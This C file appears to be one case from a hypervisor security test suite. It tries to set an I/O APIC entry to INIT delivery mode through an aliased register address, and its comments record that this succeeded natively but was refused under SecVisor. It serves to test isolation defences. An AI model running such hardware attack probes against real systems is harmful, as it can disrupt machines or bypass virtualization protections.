// Row 27. An I/O APIC entry of delivery mode INIT, written through a second address of the I/O APIC's data register: some machines decode the low byte only.
// Source: QEMU (hw/intc/ioapic.c); 82093AA, 3.0, gives the registers by 8 address lines.
// Ends: natively succeeded; beneath SecVisor refused, apic.
#include "common/attack.h"

ATTACK("init-io-apic-alias")
{
	u64 io = map_physical(0xfec00000, KERNEL_DATA | 0x18), index = 0x10 + 2 * 23;
	u32 before, now;

	operate(VULNERABLE_STORE, io, index, 4);
	before = operate(VULNERABLE_LOAD, io + 0x10, 0, 0);
	operate(VULNERABLE_STORE, io + 0x110, 0x10500, 4);
	operate(VULNERABLE_STORE, io, index, 4);
	now = operate(VULNERABLE_LOAD, io + 0x10, 0, 0);
	operate(VULNERABLE_STORE, io, index, 4);
	operate(VULNERABLE_STORE, io + 0x10, before, 4);
	if ((now & 0x700) == 0x500)
		succeeded("the entry was %#x and became %#x", before, now);
	refused("the entry stays %#x", now);
}
